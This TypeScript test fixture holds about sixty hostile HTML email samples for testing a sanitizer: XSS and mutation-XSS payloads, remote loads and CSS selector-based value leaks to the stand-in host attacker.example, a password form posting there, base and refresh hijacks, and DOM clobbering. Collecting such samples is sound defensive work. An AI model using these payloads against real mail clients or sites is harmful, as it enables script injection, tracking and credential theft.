/** Tests' own: one way in which HTML in a message tries to run, load, submit, navigate or deceive. */
export interface HostileMail {
  readonly name: string;
  readonly html: string;
}

const ran = "console.log('HOSTILE-RAN')";
const away = 'https://attacker.example';

/** Tests' own: written after the published corpora (OWASP, DOMPurify, EFAIL, Cure53), in our own words. */
export const hostileMails: readonly HostileMail[] = [
  { name: 'a script', html: `<p>x</p><script>${ran}</script>` },
  { name: 'a script from elsewhere', html: `<script src="${away}/a.js"></script>` },
  { name: 'a module script', html: `<script type="module">import "${away}/m.js"</script>` },
  { name: 'an error handler', html: `<img src="x" onerror="${ran}">` },
  { name: 'a load handler on the body', html: `<html><body onload="${ran}">x</body></html>` },
  { name: 'a handler with odd separators', html: `<img/src="x"/onerror=${ran}>` },
  { name: 'a focus handler that focuses itself', html: `<input autofocus onfocus="${ran}">` },
  { name: 'an opened details handler', html: `<details open ontoggle="${ran}">x</details>` },
  {
    name: 'an animation handler',
    html: `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${ran}">x</p>`,
  },
  {
    name: 'a script inside SVG',
    html: `<svg xmlns="http://www.w3.org/2000/svg"><script>${ran}</script></svg>`,
  },
  {
    name: 'a load handler on SVG',
    html: `<svg onload="${ran}"><animate onbegin="${ran}" attributeName="x" dur="1s"/></svg>`,
  },
  {
    name: 'an SVG image from elsewhere',
    html: `<svg><image href="${away}/svg.png" width="9" height="9"/></svg>`,
  },
  { name: 'an SVG use from elsewhere', html: `<svg><use href="${away}/sprite.svg#a"/></svg>` },
  {
    name: 'an SVG as data image with script',
    html: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${encodeURIComponent(ran)}'/>">`,
  },
  {
    name: 'an SVG foreign object',
    html: `<svg><foreignObject><iframe src="${away}/fo"></iframe></foreignObject></svg>`,
  },
  {
    name: 'MathML with a link that runs',
    html: `<math><maction actiontype="statusline" xlink:href="javascript:${ran}">x</maction></math>`,
  },
  {
    name: 'mutation through MathML and style',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ran}&gt;">`,
  },
  {
    name: 'mutation through SVG and style',
    html: `<svg></p><style><a id="</style><img src=1 onerror=${ran}>">`,
  },
  {
    name: 'mutation through noscript',
    html: `<noscript><p title="</noscript><img src=x onerror=${ran}>"></noscript>`,
  },
  {
    name: 'mutation through nested forms',
    html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${ran}>`,
  },
  {
    name: 'mutation through a template',
    html: `<template><script>${ran}</script><img src=x onerror="${ran}"></template>`,
  },
  {
    name: 'mutation through plain text elements',
    html: `<xmp><p title="</xmp><img src=x onerror=${ran}>"></xmp><plaintext><img src=x onerror=${ran}>`,
  },
  {
    name: 'a comment that ends early',
    html: `<!--><img src=x onerror=${ran}>--><!--[if gte mso 9]><img src="${away}/mso.png"><![endif]-->`,
  },
  { name: 'a link that runs', html: `<a href="javascript:${ran}">x</a>` },
  {
    name: 'a link that runs, disguised',
    html: `<a href="  jAvA&#x09;scr&#10;ipt&colon;${ran}">x</a><a href="vbscript:x">y</a>`,
  },
  { name: 'a link to a data document', html: `<a href="data:text/html,<script>${ran}</script>">x</a>` },
  { name: 'an image from elsewhere', html: `<img src="${away}/open.png" width="1" height="1">` },
  { name: 'an image without a scheme', html: `<img src="//attacker.example/open.png">` },
  {
    name: 'an image of our own server',
    html: `<img src="/v1/administration/session"><img src="relative.png">`,
  },
  { name: 'an image set', html: `<img srcset="${away}/1.png 1x, ${away}/2.png 2x" src="x:">` },
  {
    name: 'a picture with sources',
    html: `<picture><source srcset="${away}/p.webp"><img src="${away}/p.png"></picture>`,
  },
  {
    name: 'a background attribute',
    html: `<body background="${away}/b.png"><table background="${away}/t.png"><tr><td background="${away}/td.png">x</table>`,
  },
  { name: 'a background in a style', html: `<p style="background:url(${away}/s.png)">x</p>` },
  {
    name: 'a background in disguise',
    html: `<p style="background:u\\72l(${away}/e.png)">x</p><p style="background-image:/**/url/**/(${away}/c.png)">y</p>`,
  },
  {
    name: 'a background through a variable',
    html: `<style>:root{--a:u\\72l("${away}/v.png")}p{background:var(--a)}</style><p style="--b:url(${away}/w.png);background:var(--b)">x</p>`,
  },
  {
    name: 'an image set in a style',
    html: `<style>p{background:image-set("${away}/i.png" 1x);list-style:url(${away}/l.png);cursor:url(${away}/c.cur),auto}</style><p>x</p>`,
  },
  {
    name: 'a style sheet import',
    html: `<style>@import "${away}/i.css";@import url(${away}/j.css);p{color:red}</style><p>x</p>`,
  },
  {
    name: 'a font from elsewhere',
    html: `<style>@font-face{font-family:f;src:url(${away}/f.woff)}p{font-family:f}</style><p>x</p>`,
  },
  {
    name: 'reading values through selectors',
    html: `<style>input[value^="s"]{background:url(${away}/s)}a[href*="token"]{background:url(${away}/t)}</style><input value="secret"><a href="https://x.example/?token=1">x</a>`,
  },
  {
    name: 'a style that closes itself',
    html: `<style>p{content:"</style><img src=x onerror=${ran}>"}</style>`,
  },
  {
    name: 'a style string that would close itself once rewritten',
    html: `<style>p::after{content:"\\3c/style>\\3cimg src=x onerror=${ran}>"}</style><p>x</p>`,
  },
  {
    name: 'a style sheet link',
    html: `<link rel="stylesheet" href="${away}/a.css"><link rel="preload" as="image" href="${away}/p.png"><link rel="dns-prefetch" href="//secret.attacker.example"><link rel="icon" href="${away}/f.ico">`,
  },
  { name: 'a refresh', html: `<meta http-equiv="refresh" content="0;url=${away}/refresh">` },
  { name: 'a base', html: `<base href="${away}/"><img src="base.png"><a href="page">x</a>` },
  {
    name: 'a form',
    html: `<form action="${away}/form" method="post"><input name="password" type="password"><button>Sign in</button></form>`,
  },
  {
    name: 'form controls elsewhere',
    html: `<input form="f" formaction="${away}/x" type="image" src="${away}/in.png"><select onchange="${ran}"><option>x</select><textarea>x</textarea>`,
  },
  {
    name: 'frames',
    html: `<iframe src="${away}/frame"></iframe><iframe srcdoc="<script>${ran}</script>"></iframe><frameset><frame src="${away}/fs"></frameset>`,
  },
  {
    name: 'objects and embeds',
    html: `<object data="${away}/o.swf"></object><embed src="${away}/e.swf"><applet code="${away}/a.class"></applet>`,
  },
  {
    name: 'sound and video',
    html: `<video src="${away}/v.mp4" poster="${away}/v.png" autoplay></video><audio src="${away}/a.mp3" autoplay></audio><video><source src="${away}/s.mp4"><track src="${away}/t.vtt" default></video>`,
  },
  { name: 'dangling markup', html: `<p>before</p><img src='${away}/dangling?` },
  { name: 'dangling markup in a style', html: `<p>before</p><style>@import '${away}/dangling-style?` },
  { name: 'a tracked link', html: `<a href="https://firm.example/" ping="${away}/ping">x</a>` },
  { name: 'a link that names another place', html: `<a href="${away}/login">https://bank.example/login</a>` },
  {
    name: 'an overlay over everything',
    html: `<div style="position:fixed;inset:0;z-index:99999;background:red">Signed, unchanged</div><style>div{position:sticky!important;top:0}</style>`,
  },
  {
    name: 'clobbered names',
    html: `<img name="body"><img id="createElement"><form id="attributes"><input name="parentNode"></form>`,
  },
  {
    name: 'a popover and dialog',
    html: `<dialog open>x</dialog><div popover="auto" id="p">x</div><button popovertarget="p">y</button>`,
  },
  {
    name: 'a custom element with a shadow root',
    html: `<x-y><template shadowrootmode="open"><img src="${away}/shadow.png"></template></x-y>`,
  },
  {
    name: 'a huge table',
    html: `<table width="100000" height="100000">${'<tr><td>x</td></tr>'.repeat(3000)}</table>`,
  },
  { name: 'deep nesting', html: `${'<div>'.repeat(4000)}<img src=x onerror=${ran}>${'</div>'.repeat(4000)}` },
  {
    name: 'Outlook markup',
    html: `<html xmlns:v="urn:schemas-microsoft-com:vml"><v:background fill="t"><v:fill src="${away}/vml.png"/></v:background><xml><o:p>x</o:p></xml></html>`,
  },
];
